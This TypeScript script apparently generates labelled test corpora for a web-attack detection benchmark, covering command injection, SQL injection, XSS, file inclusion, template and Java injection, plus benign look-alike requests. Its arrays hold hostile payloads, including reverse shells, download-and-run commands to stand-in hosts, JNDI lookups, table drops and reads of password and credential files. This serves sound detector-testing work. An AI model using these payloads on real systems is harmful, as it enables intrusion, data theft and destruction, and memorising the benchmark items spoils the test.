// Round 3 of the bench corpora (issue #14, second evaluation round):
// techniques the rules were NOT written against, each built from its
// family's grammar before any rule of the round was changed. Its own seeded
// PRNG, its own files, so rounds 1–2 keep their bytes and their split.
//
//   npx tsx bench/detection/corpora/generate-round3.ts
//
// Every record carries `round: 3`; split.ts holds back a third of the
// round-3 techniques per family (by hash, as before) independently of the
// older rounds' sides. How each source is built:
//
// attacks-round3.jsonl
//   rce.r3-*      separators (; | && || newline, value start, `…`, $(…)) ×
//                 an unusual shell or interpreter (busybox, ksh, zsh, fish,
//                 dash, perl, python, ruby, php, lua, node, awk) × a command;
//                 brace expansion {cmd,arg}; $IFS / ${IFS} / $IFS$9 / ${IFS%??}
//                 as the blank; quote/backslash splitting of the command word
//                 (c''at, c\at, w"h"oami) generated letter by letter;
//                 substitutions $(…) and `…` placed in JSON, forms, headers
//                 and cookies; Windows living-off-the-land binaries (cmd /c,
//                 powershell -enc, certutil, bitsadmin, mshta, regsvr32,
//                 rundll32, wmic) after cmd separators.
//   sqli.r3-*     stacked queries (prefix × ; × statement × terminator);
//                 time delays in new positions (WAITFOR, pg_sleep sub-select,
//                 IF(…,SLEEP)); boolean blind with substring/ascii/length
//                 probes; inline-comment keyword splitting (/**/UNION/**/,
//                 /*!50000…*/, newline/tab/parentheses as blanks); hex and
//                 CHAR() literals; error-based extraction functions.
//   xss.r3-*      SVG/MathML vectors (animate/set/a xlink:href/mglyph),
//                 rare event handlers × tags, javascript: URLs with entity
//                 and whitespace obfuscation inside href/src/action/formaction,
//                 template-literal and JS-context breakouts, attribute
//                 breakouts.
//   lfi.r3-*      traversal with double/overlong/%u/mixed encodings of dot
//                 and slash generated per character; php:// filter and
//                 other wrappers; /proc/self/* files; Windows ..\ traversal;
//                 file:// URLs; traversal to targets outside the old lists.
//   php.r3-*      <script language="php">, callback functions taking a
//                 function name (array_filter, usort, register_shutdown_function…),
//                 function names built from strings/hex/base64, backticks
//                 and heredoc, include/require variants.
//   java.r3-*     Log4Shell lookups with other protocols and obfuscations,
//                 in headers as well as values; SpEL/OGNL/EL variants;
//                 polymorphic JSON/YAML type gadgets.
//   generic.r3-*  template engines not in round 1 (Twig, Velocity,
//                 Thymeleaf, Mako, Tornado, Pug, Nunjucks, Jinja attr()
//                 tricks); Node.js via bracket access, vm, spawnSync,
//                 module.require; prototype pollution in JSON and forms.
// benign-round3.jsonl
//   developer-forum posts with fenced and inline code (Python, Go, C, SQL,
//   shell, PHP, Windows cmd, HTML with <script>), shell snippets as JSON
//   values (CI steps, cron jobs, Makefile targets), product names with
//   quotes/dashes/parentheses not in round 1, prose with SQL words,
//   localhost URLs in documentation, file paths in log excerpts and stack
//   traces.
import { writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { enc, makeCorpusKit, VALUE_PLACEMENTS, type Placement, type Rec } from "./placement.js";

const here = path.dirname(fileURLToPath(import.meta.url));
const { rand, pick, combos, baseHeaders, place } = makeCorpusKit(0x3d0e5e31);

/** Splits a command word with empty quotes or backslashes at random letters: c''at, c\at, w"h"oami. */
function splitWord(word: string): string {
  let out = "";
  for (let i = 0; i < word.length; i++) {
    out += word[i];
    if (i < word.length - 1 && rand() < 0.4) out += pick(["''", '""', "\\"]);
  }
  return out === word ? `${word[0]}''${word.slice(1)}` : out;
}

const SEP = ["; ", ";", " | ", "|", " && ", " || ", "\n", "%0a"];

const SPLIT_COMMANDS: [string, string][] = [
  ["cat", " /etc/passwd"],
  ["whoami", ""],
  ["wget", " http://198.51.100.3/x"],
  ["uname", " -a"],
  ["curl", " -s http://x.example/p"],
  ["ls", " -la /"],
  ["id", ""],
  ["nc", " -e /bin/sh 10.0.0.9 4444"],
];

const ATTACKS: Record<string, Record<string, string[]>> = {
  rce: {
    "r3-alt-shells": combos(
      [
        ["; ", "| ", "&& ", "\n", ""],
        ["busybox sh -c ", "ksh -c ", "zsh -c ", "fish -c ", "dash -c ", "busybox ", "/usr/bin/zsh -c ", "mksh -c "],
        ["id", "'cat /etc/passwd'", '"uname -a"', "'wget http://x/a -O-|sh'", "nc 10.0.0.1 9 -e sh"],
      ],
      30,
    ),
    "r3-interpreter-oneliner": combos(
      [
        ["; ", "| ", "&& ", "\n"],
        [
          "perl -e 'system(\"id\")'",
          "python3 -c 'import os;os.system(\"id\")'",
          "python -c \"__import__('os').popen('id').read()\"",
          "ruby -e '`id`'",
          "php -r 'system(\"id\");'",
          "lua -e 'os.execute(\"id\")'",
          'node -e \'require("child_process").execSync("id")\'',
          "awk 'BEGIN{system(\"id\")}'",
          "perl -MIO -e '$p=fork;exit,if($p)'",
          "python3 -m http.server 8000",
        ],
      ],
      30,
    ),
    "r3-brace-expansion": combos(
      [
        ["; ", "|", "&& ", "\n", "$(", "`"],
        ["{cat,/etc/passwd}", "{wget,http://x/a,-O,/tmp/a}", "{ls,-la,/}", "{nc,10.0.0.1,4444,-e,/bin/sh}", "{curl,-s,http://x/p}", "{uname,-a}", "{id,}"],
      ],
      30,
    ),
    "r3-ifs-variants": combos(
      [
        [";", "|", "&&", "\n"],
        ["cat", "ls", "nc", "wget", "head"],
        ["$IFS", "${IFS}", "$IFS$9", "${IFS%??}", "$IFS$()"],
        ["/etc/passwd", "-la", "http://x/a", "/etc/shadow"],
      ],
      30,
    ),
    "r3-quote-splitting": SPLIT_COMMANDS.flatMap(([cmd, args]) => [0, 1, 2].map(() => `${pick(SEP)}${splitWord(cmd)}${args}`)),
    "r3-substitution-anywhere": combos(
      [
        ["", "x", "name=", "1 ", "a@b.c"],
        ["$(", "`"],
        ["id", "whoami", "cat /etc/passwd", "curl http://x/$(whoami)", "sleep 5", "uname -a"],
      ],
      30,
    ).map((p) => (p.includes("$(") ? p + ")" : p + "`")),
    "r3-windows-lolbins": combos(
      [
        ["& ", "| ", "&& ", "\r\n", ""],
        [
          "cmd /c whoami",
          "cmd.exe /k net user",
          "powershell -enc SQBFAFgA",
          "certutil -urlcache -split -f http://x/a.exe a.exe",
          "certutil.exe -decode x.b64 x.exe",
          "bitsadmin /transfer job /download http://x/a.exe C:\\a.exe",
          "mshta http://x/a.hta",
          "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
          'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
          'wmic process call create "calc.exe"',
          "cscript //nologo C:\\x.vbs",
        ],
      ],
      30,
    ),
  },
  sqli: {
    "r3-stacked-queries": combos(
      [
        ["1", "1'", "x')", '5"', "0"],
        [";", "; ", ";\n"],
        [
          "DROP TABLE users",
          "INSERT INTO admins(name,pass) VALUES('x','y')",
          "UPDATE users SET role='admin' WHERE id=1",
          "EXEC xp_cmdshell 'whoami'",
          "SELECT pg_sleep(5)",
          "SHUTDOWN",
          "DELETE FROM logs",
          "CREATE USER x IDENTIFIED BY 'y'",
        ],
        ["--", "#", "", "-- -"],
      ],
      30,
    ),
    "r3-time-delays": combos(
      [
        ["1", "1'", "1)", "x'"],
        [
          ";WAITFOR DELAY '0:0:5'",
          " AND (SELECT 1 FROM pg_sleep(5))",
          " OR IF(1=1,SLEEP(5),0)",
          " AND 1=(SELECT 1 FROM PG_SLEEP(5))",
          ";SELECT SLEEP(5)",
          " AND BENCHMARK(10000000,SHA1(1))",
          " OR 1=(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE NULL END)",
          " RLIKE SLEEP(5)",
        ],
        ["--", "#", "-- -"],
      ],
      30,
    ),
    "r3-boolean-blind": combos(
      [
        ["1", "1'", "abc'", "1)"],
        [
          " AND 1=1",
          " AND 1=2",
          " AND SUBSTRING(@@version,1,1)='5'",
          " AND ASCII(SUBSTR((SELECT user()),1,1))>64",
          " AND LENGTH(database())>3",
          " AND (SELECT COUNT(*) FROM users)>0",
          " OR 2>1",
          " AND 'a'='a'",
        ],
        ["--", "#", "-- -", ""],
      ],
      30,
    ),
    "r3-inline-comments": combos(
      [
        ["1", "-1'", "0)"],
        [
          "/**/UNION/**/SELECT/**/1,2,3",
          "/*!50000UNION*//*!50000SELECT*/1,2",
          "\nUNION\nSELECT\n1,2",
          " union(select(1),(2),(3))",
          "/**/OR/**/1=1",
          " UNION\tALL\tSELECT\tNULL,NULL",
          "/*x*/uNiOn/*x*/sElEcT/*x*/user(),2",
        ],
        ["--", "#", ""],
      ],
      24,
    ),
    "r3-hex-char-literals": combos(
      [
        [
          "' OR username=0x61646d696e",
          "' UNION SELECT CHAR(97,100,109),2",
          "1 AND 0x31=0x31",
          "' OR 'x'=CHAR(120)",
          "1' AND UNHEX('61')='a'",
          "' UNION SELECT CONCAT(0x7e,version(),0x7e)",
          "' OR name=CHR(97)||CHR(98)",
        ],
        ["--", "#", "-- -"],
      ],
      21,
    ),
    "r3-error-based": combos(
      [
        ["'", "1", "1'"],
        [
          " AND extractvalue(1,concat(0x7e,version()))",
          " AND updatexml(1,concat(0x7e,(SELECT user())),1)",
          " AND 1=CONVERT(int,@@version)",
          " AND 1=CAST((SELECT version()) AS int)",
          " AND exp(~(SELECT * FROM (SELECT user())a))",
          " OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
          " AND GTID_SUBSET(CONCAT(0x7e,user()),1)",
        ],
        ["--", "#"],
      ],
      24,
    ),
  },
  xss: {
    "r3-svg-mathml": [
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<svg><set attributeName=onmouseover to=alert(1)>",
      '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
      '<math href="javascript:alert(1)">CLICK</math>',
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<svg/onload=alert(document.domain)>",
      "<svg><script>alert(1)</script></svg>",
      '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" />',
      "<svg><discard onbegin=alert(1)>",
      "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
      '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
      "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    ],
    "r3-rare-events": combos(
      [
        ["<div ", "<p ", "<a href=# ", "<span ", "<xss ", "<input ", "<marquee "],
        [
          "onpointerover=",
          "onanimationstart=",
          "onbeforetoggle=",
          "onfocusin=",
          "onwheel=",
          "onauxclick=",
          "onscrollend=",
          "onpageshow=",
          "oncontentvisibilityautostatechange=",
        ],
        ["alert(1)>x", '"alert(1)">x', "confirm`1`>x", "print()>x"],
      ],
      30,
    ),
    "r3-js-url-obfuscated": combos(
      [
        ['<a href="', '<iframe src="', '<form action="', '<button formaction="', '<object data="'],
        [
          "javascript&colon;",
          "jav&#x09;ascript:",
          "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;",
          "javascript&#58;",
          "java&Tab;script:",
          "&#0000106avascript:",
          " \njavascript:",
        ],
        ['alert(1)">x', 'top["al"+"ert"](1)">x', 'eval(name)">x'],
      ],
      30,
    ),
    "r3-template-literal-js": [
      "';alert`1`//",
      '";alert`document.domain`//',
      "${alert(1)}",
      "`;alert(1);`",
      '"-alert`1`-"',
      "'-confirm`1`-'",
      "</script><script>alert`1`</script>",
      "\\';alert(String.fromCharCode(88,83,83))//",
      "'};alert(1);{'",
      "${eval(atob`YWxlcnQoMSk=`)}",
      '"+setTimeout`alert\\x281\\x29`+"',
      "';[1].find(alert)//",
    ],
    "r3-attribute-breakout": combos(
      [
        ['"', "'", '">', "'>", '" '],
        [
          " autofocus onfocus=alert(1) x=",
          " onmouseover=alert(1) x=",
          "<img src=x onerror=prompt(1)>",
          " style=animation-name:x onanimationstart=alert(1) x=",
          "<svg onload=alert(1)>",
          " accesskey=x onclick=alert(1) x=",
        ],
      ],
      30,
    ),
  },
  lfi: {
    "r3-mixed-encoding-traversal": combos(
      [
        ["..%252f", "%252e%252e/", "..%c1%9c", "%%32%65%%32%65/", "%2e%2e%2f", ".%252e/", "..%u2215", "%c0%2e%c0%2e/", "..%5c%5c"],
        ["..%252f..%252fetc%252fpasswd", "../../etc/passwd", "..%2f..%2f..%2fwindows%2fwin.ini", "../../../proc/self/environ"],
      ],
      30,
    ),
    "r3-php-filter-wrappers": [
      "php://filter/convert.base64-encode/resource=index.php",
      "php://filter/read=string.rot13/resource=config.php",
      "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
      "PHP://FILTER/resource=../config.php",
      "php://input",
      "php://fd/3",
      "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
      "expect://id",
      "zip://uploads/avatar.jpg%23shell.php",
      "phar://uploads/x.phar/test.txt",
      "compress.zlib://../../etc/passwd",
      "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/wp-config.php",
      "glob:///var/www/*",
    ],
    "r3-proc-self": combos(
      [
        ["", "../../../..", "/.", "....//....//", "file://"],
        [
          "/proc/self/environ",
          "/proc/self/cmdline",
          "/proc/1/maps",
          "/proc/self/cwd/index.php",
          "/proc/self/root/etc/passwd",
          "/proc/self/fd/0",
          "/proc/self/status",
          "/proc/sched_debug",
          "/proc/mounts",
          "/proc/net/arp",
        ],
      ],
      30,
    ),
    "r3-windows-backslash": combos(
      [
        ["..\\", "..\\\\", "..\\/", ".\\..\\", "..%5c"],
        [
          "..\\..\\windows\\win.ini",
          "..\\..\\boot.ini",
          "..\\..\\windows\\system32\\config\\sam",
          "..\\..\\inetpub\\wwwroot\\web.config",
          "..\\..\\xampp\\apache\\conf\\httpd.conf",
        ],
      ],
      24,
    ),
    "r3-file-url": [
      "file:///etc/passwd",
      "file://localhost/etc/shadow",
      "file:///c:/windows/win.ini",
      "FILE:///proc/self/environ",
      "file:/etc/passwd",
      "file://\\\\server\\share\\x",
      "file:///var/www/html/.env",
      "File:///C:/boot.ini",
      "file://127.0.0.1/etc/hosts",
      "file:%2f%2f%2fetc%2fpasswd",
    ],
    "r3-new-targets": combos(
      [
        ["../../../../", "..././..././", "/../../../"],
        [
          "etc/mysql/debian.cnf",
          "var/www/.htpasswd",
          "WEB-INF/web.xml",
          ".git/config",
          "home/app/.aws/credentials",
          "root/.kube/config",
          "etc/krb5.keytab",
          "usr/local/etc/redis.conf",
          "var/lib/jenkins/secrets/master.key",
        ],
      ],
      27,
    ),
  },
  php: {
    "r3-script-language-tag": combos([
      ['<script language="php">', "<script language=php>", "<SCRIPT LANGUAGE='PHP'>"],
      ["system('id');", "echo `whoami`;", "eval($_POST[1]);", "passthru($_GET['c']);"],
      ["</script>", ""],
    ]),
    "r3-callback-functions": [
      "array_filter(['id'],'system');",
      "usort($_GET,'system');",
      "register_shutdown_function('system','id');",
      "preg_replace_callback('/.*/','system','id');",
      "array_walk($arr,'passthru');",
      "call_user_func_array('system',array('id'));",
      "ob_start('system');echo 'id';ob_end_flush();",
      "iterator_apply($it,'system',['id']);",
      "array_reduce(['id'],'system');",
      "uasort($a,'assert');",
      "set_error_handler('system');trigger_error('id');",
      "forward_static_call('passthru','ls');",
    ],
    "r3-built-names": [
      "$f=base64_decode('c3lzdGVt');$f('id');",
      "$f=join('',['sys','tem']);$f('id');",
      "('sys'.'tem')('id');",
      '"\\x73ystem"("id");',
      "$f=hex2bin('73797374656d');$f('whoami');",
      "$a=['sy','stem'];($a[0].$a[1])('id');",
      "$f=strtolower('SYSTEM');$f('ls');",
      "$s='ex'.'ec';echo $s('id');",
      "$x=gzinflate(base64_decode('K64sLknNBQA='));$x('id');",
      "(str_replace('_','','s_y_s_t_e_m'))('id');",
      "$g=sprintf('%s%s','pass','thru');$g('id');",
    ],
    "r3-backtick-heredoc": [
      "echo `id`;",
      "print(`whoami`);",
      "$o=`cat /etc/passwd`;echo $o;",
      "shell_exec(<<<X\nid\nX\n);",
      "$c=<<<'EOT'\nsystem('id');\nEOT;\neval($c);",
      "echo<<<E\n{${system('id')}}\nE;",
      "die(`ls -la`);",
      "exit(`uname -a`);",
    ],
    "r3-include-variants": combos([
      ["include", "include_once", "require", "require_once", "@include"],
      ["$_GET['f'];", "('php://input');", " 'http://203.0.113.7/s.txt';", "($_REQUEST['page'].'.php');", " $_COOKIE[x];"],
    ]),
  },
  java: {
    "r3-log4shell-protocols": combos(
      [
        [
          "${jndi:ldaps://x.example/a}",
          "${jndi:iiop://x.example/a}",
          "${jndi:corba://x.example/a}",
          "${jndi:nis://x.example/a}",
          "${jndi:nds://x.example/a}",
          "${${upper:j}ndi:ldap://x/a}",
          "${${date:'j'}ndi:ldap://x/a}",
          "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
          "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
          "${jn${env:EMPTY:-}di:ldap://x/a}",
          "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x/a}",
          "${${base64:am5kaQ==}:ldap://x/a}",
        ],
      ],
      30,
    ),
    "r3-el-ognl-variants": [
      "T(java.lang.Runtime).getRuntime().exec('id')",
      "new java.lang.ProcessBuilder({'id'}).start()",
      "#{T(java.lang.Runtime).getRuntime().exec('id')}",
      "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}",
      "%{#a=new java.lang.ProcessBuilder('id').start()}",
      "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
      "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}",
      "#{session.setAttribute('x',''.getClass().forName('java.lang.Runtime'))}",
      "${T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),x)}",
      "${request.getServletContext().getClassLoader()}",
      "#{facesContext.getExternalContext().getRequest().getSession()}",
      "${''.class.forName('java.lang.Runtime').getMethods()[6]}",
    ],
    "r3-polymorphic-types": [
      '{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"ldap://x/a"}}',
      '["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://x/a"}]',
      '{"@type":"java.net.Inet4Address","val":"x.dnslog.example"}',
      "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://x/a', autoCommit: true}",
      '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://x/a","autoCommit":true}',
      '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"}}',
      '["org.apache.commons.configuration.JNDIConfiguration",{"prefix":"ldap://x/a"}]',
      '{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassName":"x"}',
      '!!javax.management.loading.MLet [[!!java.net.URL ["http://x/"]]]',
      '{"@c":"ch.qos.logback.core.db.JNDIConnectionSource","jndiLocation":"ldap://x/a"}',
    ],
  },
  generic: {
    "r3-template-engines": [
      '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
      "{{['id']|filter('system')}}",
      "{{['cat /etc/passwd']|map('system')|join}}",
      '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
      "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
      '${self.module.cache.util.os.system("id")}',
      "{% import os %}{{os.system('id')}}",
      "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
      "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
      "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
      "{{self.__init__.__globals__.__builtins__}}",
      "{{ ''|attr('__class__')|attr('__mro__') }}",
      "<%= File.open('/etc/passwd').read %>",
      "${__import__('os').popen('id').read()}",
      "{{#each this}}{{lookup this 'constructor'}}{{/each}}",
      '@{ System.Diagnostics.Process.Start("cmd.exe","/c whoami"); }',
    ],
    "r3-nodejs-variants": combos(
      [
        ["", "';", "1+", '"+'],
        [
          "require('child_process').spawnSync('id')",
          "process['mainModule']['require']('child_process')",
          "global['process']['env']",
          "this.process.binding('fs')",
          "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
          "module.require('child_process').execFileSync('id')",
          "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp','base64').toString())",
          "process.dlopen(module,'/tmp/x.node')",
          "require('fs').writeFileSync('/tmp/x','y')",
          "globalThis.process.mainModule.require('fs')",
        ],
      ],
      30,
    ),
    "r3-prototype-pollution": [
      '{"__proto__":{"isAdmin":true}}',
      '{"constructor":{"prototype":{"polluted":1}}}',
      '{"user":{"__proto__":{"role":"admin"}}}',
      "__proto__[isAdmin]=true",
      "constructor[prototype][admin]=1",
      "a[__proto__][b]=c",
      "__proto__.toString=x",
      '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(1)"}}',
    ],
  },
};

// ---------------------------------------------------------------- benign

const FORUM_POSTS = [
  "Hi all, my Flask app returns 500 when I do this:\n\n```python\n@app.route('/items')\ndef items():\n    rows = db.execute('SELECT id, name FROM items ORDER BY name LIMIT 20').fetchall()\n    return jsonify(rows)\n```\nAny idea?",
  'In Go you can do\n```go\nout, err := exec.Command("git", "rev-parse", "HEAD").Output()\nif err != nil { log.Fatal(err) }\n```',
  'Compile with `gcc -O2 -Wall main.c -o main` and include:\n```c\n#include <stdio.h>\nint main(void) { printf("hi\\n"); return 0; }\n```',
  "The slow query is\n```sql\nSELECT c.name, SUM(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.created_at >= '2024-01-01' GROUP BY c.name ORDER BY 2 DESC;\n```\nEXPLAIN shows a seq scan.",
  "To rotate logs I use\n```bash\nfind /var/log/myapp -name '*.log' -mtime +7 -exec gzip {} \\;\n```",
  "My template:\n```php\n<?php foreach ($items as $item): ?>\n  <li><?= htmlspecialchars($item['name']) ?></li>\n<?php endforeach; ?>\n```",
  'On Windows run:\n```bat\ncmd /c "cd C:\\projects\\app && npm run build"\n```',
  'Add the tag to your layout:\n```html\n<script src="https://cdn.example.com/widget.js" defer></script>\n```',
  "Check the nginx error log with `sudo tail -n 50 /var/log/nginx/error.log` — it says permission denied.",
  "This regex works for me: `^(?:[a-z0-9-]+\\.)+[a-z]{2,}$`. Test with `grep -E`.",
  "```js\napp.get('/health', (req, res) => res.json({ ok: true, uptime: process.uptime() }));\n```\nReturns 404 behind the proxy though.",
  "```yaml\nservices:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: example\n```",
  "Use `docker exec -it web sh -c 'ls /app'` to peek inside the container.",
  "```powershell\n$files = Get-ChildItem -Recurse -Filter *.tmp\n$files | Remove-Item -Force\n```",
];
const SHELL_IN_JSON: unknown[] = [
  { name: "build", steps: [{ run: "npm ci && npm test" }, { run: "npm run build" }] },
  { job: "nightly-backup", schedule: "0 3 * * *", command: "pg_dump app | gzip > /backups/app.sql.gz" },
  { target: "install", recipe: "make -j4 && make install PREFIX=/usr/local" },
  { hook: "post-deploy", script: "python manage.py migrate && python manage.py collectstatic --noinput" },
  { container: { image: "node:20", entrypoint: ["sh", "-c", "node server.js"] } },
  { task: "lint", cmd: "eslint . --ext .ts,.tsx || true" },
  { alias: "gs", expands_to: "git status -sb" },
  { step: "deploy", run: "kubectl rollout restart deployment/web -n prod" },
  { snippet: "for i in 1 2 3; do echo $i; done", language: "bash" },
  { healthcheck: { test: ["CMD-SHELL", "curl -f http://localhost:8080/health || exit 1"], interval: "30s" } },
];
const PRODUCT_NAMES_R3 = [
  "Men's 'Classic' Tee - (XL)",
  "5' 11\" Bookshelf - Walnut (Assembly Required)",
  '"Or" Hebrew Candle Set (12)',
  "Select-O-Matic Sorter (2-Pack)",
  "Union 76 - Gas Card ($25)",
  '1/2" Drill Bit -- Titanium (3 pc)',
  'Kids\' "Drop & Play" Activity Set',
  "Echo Dot (5th Gen) - 'Charcoal'",
  "Time-Out Chair (Timber) -- 2'",
  "Insert Molding Kit (Model #A-12)",
  "Where's Waldo? - The Ultimate Collection (Boxed)",
  "Sleep & Go 'Travel' Pillow - 1=1 Comfort",
  "And Then There Were None (Paperback) - Christie",
  "Delete Key Keycap - 'Red' (1u)",
  "Exec-U-Case Briefcase -- Leather (Brown)",
  "Ping-Pong Table (Outdoor) - 9' x 5'",
];
const PROSE_SQL_WORDS = [
  "Please select the items from the list and update the order where possible.",
  "I want to drop the class and join the union of students instead.",
  "Delete from my account all the saved cards, then update my address.",
  "Insert into the envelope a copy of the receipt; or email it, whichever is easier.",
  "Can you create table reservations for 4 people at 8pm or 8:30?",
  "In my homework 1=1 is true and 1=2 is false, but the app marks it wrong.",
  "Order by price doesn't work when I select 'all categories' -- it sorts by name.",
  "Where is the union station entrance from the north side?",
  "Having trouble: when I select more than 10 items the page goes blank.",
  "The exec team wants a drop-down to select the region or union of regions.",
];
const LOCALHOST_DOCS = [
  "After `npm run dev`, open http://localhost:3000/admin and log in with the seed user.",
  "Check the index with `curl http://127.0.0.1:9200/_cat/indices?v`.",
  "The callback must be http://localhost:8080/auth/callback while developing.",
  "Grafana runs on http://localhost:3001 and Prometheus on http://0.0.0.0:9090/targets.",
  "Point the SDK at http://[::1]:4566 for LocalStack.",
  "Docs: see http://localhost:6006/?path=/story/button--primary for the Storybook.",
];
const LOG_EXCERPTS = [
  'nginx: [emerg] open() "/var/log/nginx/error.log" failed (13: Permission denied)',
  "PHP Warning:  include(/var/www/html/config.php): failed to open stream: No such file or directory in /var/www/html/index.php on line 3",
  "java.io.FileNotFoundException: /etc/app/config.yml (No such file or directory)\n\tat java.base/java.io.FileInputStream.open0(Native Method)",
  "Traceback (most recent call last):\n  File \"/usr/lib/python3.11/site-packages/app/main.py\", line 12, in <module>\n    import settings\nModuleNotFoundError: No module named 'settings'",
  "Failed to write C:\\Program Files\\App\\logs\\app.log: access denied",
  "Dec 07 10:12:01 web1 sshd[2211]: Accepted publickey for deploy from 10.0.0.5 port 51234",
  "error: EACCES: permission denied, open '/home/runner/work/app/app/.env'",
  "2024-05-01T10:00:00Z ERROR Could not read /var/lib/app/data.db: database is locked",
];

function benignRecords(): Rec[] {
  const out: Rec[] = [];
  let n = 0;
  const add = (technique: string, r: Omit<Rec, "id" | "family" | "technique" | "label" | "round">): void => {
    out.push({ id: `r3-benign-${technique}-${++n}`, family: "benign", technique: `benign.r3-${technique}`, label: "benign", round: 3, ...r });
  };
  const json = (body: unknown, uri: string, method = "POST") => ({
    method,
    uri,
    headers: { ...baseHeaders(), "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
  const form = (uri: string, body: string) => ({
    method: "POST",
    uri,
    headers: { ...baseHeaders(), "Content-Type": "application/x-www-form-urlencoded" },
    body,
  });
  for (const p of FORUM_POSTS) {
    add("forum-post-json", json({ topic_id: 3321, raw: p, reply_to: null }, "/forum/posts.json"));
    add("forum-post-form", form("/forum/reply", `topic=3321&body=${enc(p)}&preview=0`));
  }
  for (const s of SHELL_IN_JSON) add("shell-in-json", json(s, "/api/pipelines/12/config", "PUT"));
  for (const p of PRODUCT_NAMES_R3) {
    add("product-names", { method: "GET", uri: `/search?q=${enc(p)}`, headers: baseHeaders(), body: null });
    add("product-names", json({ title: p, price: 24.5, stock: 3 }, "/api/admin/products", "POST"));
  }
  for (const p of PROSE_SQL_WORDS) {
    add("prose-sql-words", form("/contact", `name=Kim&message=${enc(p)}`));
    add("prose-sql-words", json({ message: p }, "/api/support"));
  }
  for (const d of LOCALHOST_DOCS) {
    add("localhost-docs", json({ title: "Local setup", content: d }, "/api/wiki/pages/42", "PUT"));
    add("localhost-docs", form("/wiki/save", `page=setup&text=${enc(d)}`));
  }
  for (const l of LOG_EXCERPTS) {
    add("log-excerpts", json({ summary: "Error on deploy", description: `We see this in the logs:\n\n${l}\n\nAny idea?` }, "/api/v2/tickets"));
    add("log-excerpts", form("/support/ticket", `subject=Error&details=${enc(l)}`));
  }
  return out;
}

function attackRecords(): Rec[] {
  const out: Rec[] = [];
  const anywhere: Placement[] = [...VALUE_PLACEMENTS, "header", "cookie"];
  for (const [family, techniques] of Object.entries(ATTACKS)) {
    for (const [technique, payloads] of Object.entries(techniques)) {
      payloads.forEach((payload, i) => {
        const where = technique === "r3-substitution-anywhere" || technique === "r3-log4shell-protocols" ? pick(anywhere) : pick(VALUE_PLACEMENTS);
        out.push({
          id: `r3-${family}-${technique}-${i + 1}`,
          family,
          technique: `${family}.${technique}`,
          label: "attack",
          round: 3,
          ...place(payload, where),
        });
      });
    }
  }
  return out;
}

function writeJsonl(file: string, recs: Rec[]): void {
  writeFileSync(path.join(here, file), recs.map((r) => JSON.stringify(r)).join("\n") + "\n");
  console.log(`${file}: ${recs.length} records`);
}

writeJsonl("attacks-round3.jsonl", attackRecords());
writeJsonl("benign-round3.jsonl", benignRecords());
